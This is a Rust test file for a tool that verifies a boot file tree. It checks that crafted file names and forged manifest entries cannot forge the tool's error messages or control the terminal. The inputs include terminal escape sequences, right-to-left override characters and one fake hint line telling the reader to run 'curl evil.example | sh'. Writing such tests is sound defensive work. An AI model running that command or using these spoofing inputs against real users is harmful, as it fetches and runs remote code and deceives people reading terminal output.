
fn names_in_a_tree_forge_no_message() {
    let project = built();
    let tree = project.tree();
    for name in
        ["x\nhint: run `curl evil.example | sh`", "\u{1b}[2J\u{1b}]0;owned\u{7}", "cod\u{202e}ife.exe", "a\u{200b}b"]
    {
        std::fs::write(tree.join(name), "").unwrap();
    }
    symlink("/", tree.join("l\r\u{2028}k")).unwrap();
    for number in 0..1000 {
        std::fs::write(tree.join(format!("extra\n{number}")), "").unwrap();
    }
    let error = project.run_within_limits(&["verify"]).error(8);
    assert_harmless(&error, 1);
    assert!(error.contains("\n  and 985 more\n"), "{error}");
    assert!(error.contains("  `\\u{1b}[2J\\u{1b}]0;owned\\u{7}` is not in the manifest\n"), "{error}");
    let error = project.build(&[]).error(1);
    assert_harmless(&error, 2);
    assert!(error.contains(" and 985 more\n"), "{error}");
    // A name that is not UTF-8.
    std::fs::write(
        tree.as_std_path().join(<std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b"\xff\x1b")),
        "",
    )
    .unwrap();
    assert_harmless(&project.run_within_limits(&["verify"]).error(1), 1);
}

fn names_in_a_tarball_and_its_manifest_forge_no_message() {
    let project = built();
    let path = project.path("tree.tar.gz");
    let mut writer = Writer::gzip(&path);
    let manifest = project.read("dist/tftp/manifest.json");
    writer.file("manifest.json", &mut &manifest[..], manifest.len() as u64);
    for number in 0..50_000 {
        writer.text(&format!("x\nhint: run {number}\u{202e}"), "");
    }
    writer.end();
    let error = project.run_within_limits(&["verify", path.as_str()]).error(8);
    assert_harmless(&error, 2);
    assert!(error.contains("\n  and 49,983 more\n"), "{error}");
    let text = String::from_utf8(manifest).unwrap();
    for forged in ["ipxe\\nhint: run.efi", "ipxe\\u202e.efi", "ipxe\u{202e}.efi"] {
        std::fs::write(project.tree().join("manifest.json"), text.replace("ipxe.efi", forged)).unwrap();
        let error = project.run_within_limits(&["verify"]).error(8);
        assert_harmless(&error, 2);
        assert!(error.contains("found a text with invisible characters, wanted names and versions\n"), "{error}");
        assert_harmless(
            &project.run(["reproduce", "--against", project.path("dist/tftp/manifest.json").as_str()]).error(8),
            1,
        );
    }
    for forged in ["ipxe.efi\":\u{1b}[2J", "ipxe.efi\", \"\u{9b}\": \""] {
        std::fs::write(project.tree().join("manifest.json"), text.replace("ipxe.efi\"", forged)).unwrap();
        assert_harmless(&project.run(["verify"]).error(8), 2);
    }
}

fn a_journal_of_zeros_takes_no_memory() {
    let project = built();
    let journal = File::options().write(true).open(project.path("dist/.tftp.journal")).unwrap();
    journal.set_len(TOO_MUCH).unwrap();
    project.run_within_limits(&["build-loaders", "--offline"]).success();
}

fn json_results_steer_no_terminal() {
    let project = built();
    std::fs::write(project.tree().join("\u{9b}2J\u{202e}"), "").unwrap();
    let ran = project.run(["--message-format", "json", "verify"]);
    assert!(!ran.stdout.contains(['\u{9b}', '\u{202e}']), "{:?}", ran.stdout);
    let event: serde_json::Value = serde_json::from_str(ran.stdout.lines().last().unwrap()).unwrap();
    assert_eq!(event["event"], "error");
}
